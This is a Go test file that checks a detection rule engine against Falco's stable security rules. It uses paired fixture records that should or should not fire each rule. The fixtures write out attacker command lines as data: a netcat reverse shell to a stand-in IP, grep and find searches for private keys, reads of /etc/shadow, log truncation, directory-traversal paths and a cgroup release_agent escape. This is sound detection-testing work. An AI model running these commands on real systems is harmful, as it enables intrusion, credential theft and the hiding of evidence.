package ruleengine

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/otelsec/otelsec/internal/falcotest"
	"github.com/otelsec/otelsec/internal/schema"
)

// Key rules of Falco's stable file on records as the receiver makes them: each fires on its
// behaviour, under Falco's name, and not on a near miss (the exception or the detail that
// makes the difference).

// execRec is a successful exec; the kernel finds a memfd executable by its inode, the fixture
// by its path.
func execRec(p falcoProc, kv ...any) plog.LogRecord {
	p.syscall, p.ret = "execve", 0
	return p.record(schema.EventProcessExec, append([]any{schema.AttrProcessCommandArgs, splitArgs(p.cmdline),
		schema.AttrProcessVPID, p.vpid, schema.AttrProcessExecutableUpperLayer, p.upperLayer,
		schema.AttrProcessExecutableFromMemfd, strings.HasPrefix(p.exe, "/memfd:")}, kv...)...)
}

func splitArgs(cmdline string) []string {
	var out []string
	start := 0
	for i := 0; i <= len(cmdline); i++ {
		if i == len(cmdline) || cmdline[i] == ' ' {
			out = append(out, cmdline[start:i])
			start = i + 1
		}
	}
	return out
}

func open(p falcoProc, path string, flags ...string) plog.LogRecord {
	return p.record(schema.EventFileOpen, schema.AttrFilePath, path, schema.AttrFileFlags, flags)
}

// openAsGiven is a read-only open of path by a name given otherwise (file.path_as_given).
func openAsGiven(p falcoProc, path, given string) plog.LogRecord {
	return p.record(schema.EventFileOpen, schema.AttrFilePath, path, schema.AttrFilePathAsGiven, given, schema.AttrFileFlags, []string{"O_RDONLY"})
}

func runAs(exe, cmdline string) func(*falcoProc) {
	return func(p *falcoProc) { p.exe, p.cmdline = exe, cmdline }
}

func inContainer(p *falcoProc) { p.container = "3f4e5d6c7b8a" }

func TestFalcoStableRulesFire(t *testing.T) {
	e, _, _ := loadFalco(t, Options{MatchAll: true}, falcotest.Stable)
	containerShell := shellUser.with(func(p *falcoProc) {
		inContainer(p)
		p.parentExe, p.parentCmdline, p.ancestors = "/usr/bin/runc", "runc init", []string{"runc", "containerd-shim", "containerd", "systemd"}
	})
	alpineShell := containerShell.with(runAs("/bin/busybox", "/bin/sh"))
	phpWorker := catShadow.with(func(p *falcoProc) {
		p.exe, p.cmdline, p.parentExe, p.parentCmdline = "/usr/sbin/php-fpm8.2", "php-fpm: pool www", "/usr/sbin/php-fpm8.2", "php-fpm: master process"
		p.ancestors = []string{"php-fpm8.2", "systemd"}
	})
	nginx := catShadow.with(func(p *falcoProc) {
		p.exe, p.cmdline, p.parentExe, p.parentCmdline = "/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx", "nginx: master process"
		p.comm, p.parentComm, p.ancestors = "nginx", "nginx", []string{"nginx", "systemd"}
	})
	tests := []struct {
		rule      string
		fires     plog.LogRecord
		nearMiss  plog.LogRecord
		nearWhy   string
		wantFired func(*testing.T, plog.LogRecord)
	}{
		{rule: "Read sensitive file untrusted",
			fires:    open(catShadow, "/etc/shadow", "O_RDONLY"),
			nearMiss: open(catShadow.with(runAs("/usr/sbin/sshd", "sshd -D")), "/etc/shadow", "O_RDONLY"),
			nearWhy:  "sshd is in read_sensitive_file_binaries"},
		{rule: "Read sensitive file untrusted",
			fires:    open(catShadow, "/etc/pam.d/common-auth", "O_RDWR", "O_CLOEXEC"),
			nearMiss: open(catShadow, "/etc/passwd", "O_RDONLY"),
			nearWhy:  "/etc/passwd is not a sensitive file"},
		{rule: "Read sensitive file trusted after startup",
			fires:    nginx.record(schema.EventFileOpen, schema.AttrFilePath, "/etc/shadow", schema.AttrFileFlags, []string{"O_RDONLY"}, schema.AttrProcessAge, 6_000_000_000),
			nearMiss: nginx.record(schema.EventFileOpen, schema.AttrFilePath, "/etc/shadow", schema.AttrFileFlags, []string{"O_RDONLY"}, schema.AttrProcessAge, 5_000_000_000),
			nearWhy:  "a server in its first 5 s (proc_is_new: proc.duration <= 5000000000)"},
		{rule: "Terminal shell in container",
			fires:    execRec(containerShell),
			nearMiss: execRec(containerShell.with(func(p *falcoProc) { p.tty = false })),
			nearWhy:  "no terminal (proc.tty = 0)"},
		{rule: "Terminal shell in container",
			fires:    execRec(alpineShell),
			nearMiss: execRec(shellUser.with(runAs("/bin/busybox", "/bin/sh"))),
			nearWhy:  "on the host (container.id = host)"},
		{rule: "Search Private Keys or Passwords",
			fires:    execRec(shellUser.with(runAs("/usr/bin/grep", "grep -rl BEGIN RSA PRIVATE /home"))),
			nearMiss: execRec(shellUser.with(runAs("/usr/bin/grep", "grep -rl password /home"))),
			nearWhy:  "grep_more is never_true: passwords alone are not searched for"},
		{rule: "Search Private Keys or Passwords",
			fires:    execRec(shellUser.with(runAs("/usr/bin/find", "find / -name id_rsa"))),
			nearMiss: execRec(shellUser.with(runAs("/usr/bin/find", "find / -name authorized_keys"))),
			nearWhy:  "not a private key's name"},
		{rule: "Clear Log Activities",
			fires:    open(catShadow.with(runAs("/usr/bin/truncate", "truncate -s0 /var/log/auth.log")), "/var/log/auth.log", "O_WRONLY", "O_CREAT", "O_TRUNC"),
			nearMiss: open(catShadow.with(runAs("/usr/bin/tee", "tee -a /var/log/auth.log")), "/var/log/auth.log", "O_WRONLY", "O_APPEND"),
			nearWhy:  "appending, not truncating"},
		{rule: "Clear Log Activities",
			fires:    open(catShadow, "/srv/app/logs/syslog", "O_WRONLY", "O_TRUNC"),
			nearMiss: catShadow.with(func(p *falcoProc) { p.ret, p.errno = -13, "EACCES" }).record(schema.EventFileOpen, schema.AttrFilePath, "/var/log/syslog", schema.AttrFileFlags, []string{"O_WRONLY", "O_TRUNC"}),
			nearWhy:  "the open failed (fd.num < 0)"},
		{rule: "Create Symlink Over Sensitive Files",
			fires:    shellUser.with(func(p *falcoProc) { p.syscall = "symlinkat" }).record(schema.EventFileSymlink, schema.AttrFilePath, "/tmp/s", schema.AttrFileSymlinkTargetPath, "/etc/shadow"),
			nearMiss: shellUser.with(func(p *falcoProc) { p.syscall = "symlinkat" }).record(schema.EventFileSymlink, schema.AttrFilePath, "/tmp/s", schema.AttrFileSymlinkTargetPath, "/etc/hosts"),
			nearWhy:  "/etc/hosts is not sensitive"},
		{rule: "Create Hardlink Over Sensitive Files",
			fires:    shellUser.with(func(p *falcoProc) { p.syscall = "link" }).record(schema.EventFileLink, schema.AttrFilePath, "/tmp/h", schema.AttrFileLinkTargetPath, "/etc/shadow"),
			nearMiss: shellUser.with(func(p *falcoProc) { p.syscall = "link" }).record(schema.EventFileLink, schema.AttrFilePath, "/tmp/h", schema.AttrFileLinkTargetPath, "/etc/hostname"),
			nearWhy:  "not a sensitive file"},
		{rule: "Run shell untrusted",
			fires: execRec(shellUser.with(func(p *falcoProc) {
				p.exe, p.cmdline, p.parentExe, p.parentCmdline, p.ancestors = "/usr/bin/dash", "sh -c id", "/usr/sbin/nginx", "nginx: worker process", []string{"nginx", "nginx", "systemd"}
			})),
			nearMiss: execRec(shellUser.with(func(p *falcoProc) {
				p.exe, p.cmdline, p.parentExe, p.parentCmdline, p.ancestors = "/usr/bin/dash", "sh -c id", "/usr/bin/bash", "bash", []string{"bash", "sshd", "systemd"}
			})),
			nearWhy: "the parent is a shell"},
		{rule: "PTRACE attached to process",
			fires:    shellUser.with(func(p *falcoProc) { p.syscall = "ptrace" }).record(schema.EventProcessPtrace, schema.AttrPtraceRequest, "PTRACE_ATTACH", schema.AttrPtraceTargetPID, 1),
			nearMiss: shellUser.with(func(p *falcoProc) { p.syscall = "ptrace" }).record(schema.EventProcessPtrace, schema.AttrPtraceRequest, "PTRACE_PEEKDATA", schema.AttrPtraceTargetPID, 1),
			nearWhy:  "reading is not injecting"},
		{rule: "Execution from /dev/shm",
			fires:    execRec(shellUser.with(runAs("/dev/shm/x", "/dev/shm/x --run"))),
			nearMiss: execRec(shellUser.with(runAs("/tmp/x", "/tmp/x --run"))),
			nearWhy:  "not below /dev/shm"},
		{rule: "Fileless execution via memfd_create",
			fires:    execRec(shellUser.with(runAs("/memfd:payload", "payload"))),
			nearMiss: execRec(shellUser.with(runAs("/memfd:runc_cloned:/proc/self/exe", "runc init"))),
			nearWhy:  "runc re-executes itself from a memfd (known_memfd_execution_binaries)"},
		{rule: "Netcat Remote Code Execution in Container",
			fires:    execRec(containerShell.with(runAs("/usr/bin/nc.openbsd", "nc -e /bin/sh 198.51.100.7 4444"))),
			nearMiss: execRec(containerShell.with(runAs("/usr/bin/nc.openbsd", "nc -z 198.51.100.7 80"))),
			nearWhy:  "a port scan, no -e or -c"},
		{rule: "Disallowed SSH Connection Non Standard Port",
			fires: shellUser.with(func(p *falcoProc) {
				p.syscall, p.cmdline, p.exe = "connect", "ssh -p 443 git@example.com", "/usr/bin/ssh"
			}).record(schema.EventNetworkConnect,
				schema.AttrNetworkTransport, "tcp", schema.AttrNetworkType, "ipv4", schema.AttrNetworkPeerAddress, "203.0.113.9", schema.AttrNetworkPeerPort, 443),
			nearMiss: shellUser.with(func(p *falcoProc) {
				p.syscall, p.cmdline, p.exe = "connect", "ssh -p 443 git@example.com", "/usr/bin/ssh"
			}).record(schema.EventNetworkConnect,
				schema.AttrNetworkTransport, "tcp", schema.AttrNetworkType, "ipv4", schema.AttrNetworkPeerAddress, "192.168.1.9", schema.AttrNetworkPeerPort, 443),
			nearWhy: "a private address (rfc_1918_addresses) is not outbound"},
		{rule: "Redirect STDOUT/STDIN to Network Connection in Container",
			fires: containerShell.with(func(p *falcoProc) { p.syscall, p.ret = "dup2", 0 }).record(schema.EventFdDup, schema.AttrFdOld, 3, schema.AttrFdNew, 0,
				schema.AttrFdType, "socket", schema.AttrNetworkPeerAddress, "198.51.100.7", schema.AttrNetworkPeerPort, 4444),
			nearMiss: containerShell.with(func(p *falcoProc) { p.syscall, p.ret = "dup2", 0 }).record(schema.EventFdDup, schema.AttrFdOld, 3, schema.AttrFdNew, 0, schema.AttrFdType, "pipe"),
			nearWhy:  "a pipe, not a network connection"},
		{rule: "Debugfs Launched in Privileged Container",
			fires:    execRec(containerShell.with(runAs("/usr/sbin/debugfs", "debugfs /dev/sda1")), "container.privileged", true, "container.image.name", "debian"),
			nearMiss: execRec(containerShell.with(runAs("/usr/sbin/debugfs", "debugfs /dev/sda1")), "container.privileged", false, "container.image.name", "debian"),
			nearWhy:  "the container is not privileged"},
		{rule: "Directory traversal monitored file read",
			fires:    openAsGiven(phpWorker, "/etc/shadow", "../../../../etc/shadow"),
			nearMiss: openAsGiven(phpWorker, "/etc/shadow", "../etc/shadow"),
			nearWhy:  "one ../ is not a traversal (directory_traversal needs two)"},
		{rule: "Directory traversal monitored file read",
			fires:    openAsGiven(phpWorker, "/etc/shadow", "/var/www/../../etc/shadow"),
			nearMiss: open(phpWorker, "/var/www/../../etc/shadow", "O_RDONLY"),
			nearWhy:  "file.path alone is the path as given and is not below /etc (fd.name)"},
		{rule: "Packet socket created in container",
			fires:    containerShell.with(func(p *falcoProc) { p.syscall, p.ret = "socket", 3 }).record(schema.EventNetworkSocket, schema.AttrNetworkSocketFamily, "AF_PACKET"),
			nearMiss: containerShell.with(func(p *falcoProc) { p.syscall, p.ret = "socket", 3 }).record(schema.EventNetworkSocket, schema.AttrNetworkSocketFamily, "AF_INET"),
			nearWhy:  "an inet socket"},
		{rule: "Detect release_agent File Container Escapes",
			fires:    open(containerShell.with(func(p *falcoProc) { p.syscall, p.ret, p.uid, p.capEff = "openat", 3, 0, 1<<21 }), "/tmp/cg/release_agent", "O_WRONLY"),
			nearMiss: open(containerShell.with(func(p *falcoProc) { p.syscall, p.ret, p.uid, p.capEff = "openat", 3, 0, 1<<1 }), "/tmp/cg/release_agent", "O_WRONLY"),
			nearWhy:  "without CAP_SYS_ADMIN"},
		{rule: "Linux Kernel Module Injection Detected",
			fires:    containerShell.with(func(p *falcoProc) { p.syscall, p.ret, p.capEff = "finit_module", 0, 1<<16 }).record(schema.EventKernelModuleLoad, schema.AttrFilePath, "/x.ko"),
			nearMiss: containerShell.with(func(p *falcoProc) { p.syscall, p.ret, p.capEff = "finit_module", 0, 1<<21 }).record(schema.EventKernelModuleLoad, schema.AttrFilePath, "/x.ko"),
			nearWhy:  "without CAP_SYS_MODULE"},
		{rule: "Drop and execute new binary in container",
			fires:    execRec(containerShell.with(runAs("/tmp/dropped", "/tmp/dropped")).with(func(p *falcoProc) { p.upperLayer = true })),
			nearMiss: execRec(containerShell.with(runAs("/usr/bin/id", "id"))),
			nearWhy:  "the executable is in the image (lower layer)"},
		{rule: "Remove Bulk Data from Disk",
			fires:    execRec(shellUser.with(runAs("/usr/bin/shred", "shred -u secrets.txt"))),
			nearMiss: execRec(shellUser.with(runAs("/usr/bin/rm", "rm secrets.txt"))),
			nearWhy:  "rm is not a bulk data remover"},
	}
	for _, tc := range tests {
		t.Run(tc.rule, func(t *testing.T) {
			assert.Contains(t, matchAll(e, tc.fires), tc.rule)
			assert.NotContains(t, matchAll(e, tc.nearMiss), tc.rule, tc.nearWhy)
		})
	}
}

// TestFalcoOutput renders a stable rule's output with Falco's fields.
func TestFalcoOutput(t *testing.T) {
	e, _, _ := loadFalco(t, Options{}, falcotest.Stable)
	lr := open(catShadow, "/etc/shadow", "O_RDONLY")
	rules := e.Match(pcommon.NewMap(), lr, nil)
	if assert.Len(t, rules, 1) {
		r := rules[0]
		assert.Equal(t, "Read sensitive file untrusted", r.Name)
		assert.Equal(t, PriorityWarning, r.Priority)
		assert.Contains(t, r.Tags, "T1555")
		assert.Equal(t, "falco_rules", r.Ruleset)
		assert.Equal(t, "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=systemd gggparent=<NA> "+
			"evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=<NA>",
			r.Render(pcommon.NewMap(), lr))
		assert.Equal(t, []string{schema.AttrFilePath, schema.AttrProcessAncestorsLinuxComm, schema.AttrSyscallName, schema.AttrProcessUserName,
			schema.AttrProcessUserID, schema.AttrProcessLoginUserID, schema.AttrProcessLinuxComm, schema.AttrProcessExecutablePath,
			schema.AttrProcessParentLinuxComm, schema.AttrProcessCommandLine, schema.AttrProcessInteractive}, r.OutputFields)
	}
	// A process on the host, without a terminal.
	lr = execRec(shellUser.with(func(p *falcoProc) {
		p.exe, p.cmdline, p.tty = "/usr/bin/shred", "shred -u /root/x", false
	}))
	rules = e.Match(pcommon.NewMap(), lr, nil)
	if assert.Len(t, rules, 1) {
		assert.Equal(t, "Bulk data has been removed from disk | file=<NA> evt_type=execve user=alice user_uid=1000 user_loginuid=-1 process=shred "+
			"proc_exepath=/usr/bin/shred parent=sshd command=shred -u /root/x terminal=0 exe_flags=<NA>", rules[0].Render(pcommon.NewMap(), lr))
	}
}

// A chmod's evt.arg.mode is Falco's flag names, from the octal file.mode of the records:
// the incubating "Set Setuid or Setgid bit" looks for S_ISUID by name.
func TestFalcoChmodModeIsFlags(t *testing.T) {
	e, _ := falcoCompile(t, falcoRule("suid", "evt.type in (chmod, fchmodat) and evt.arg.mode contains S_ISUID"))
	chmod := func(mode string) plog.LogRecord {
		return shellUser.with(func(p *falcoProc) { p.syscall = "fchmodat" }).record(schema.EventFileChmod,
			schema.AttrFilePath, "/tmp/x", schema.AttrFileMode, mode)
	}
	assert.Equal(t, []string{"suid"}, matchAll(e, chmod("4755")))
	assert.Empty(t, matchAll(e, chmod("0755")))
	assert.Equal(t, "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID", falcoMode("4755"))
	assert.Equal(t, "not octal", falcoMode("not octal"), "a value that is not octal is left as it is")
}
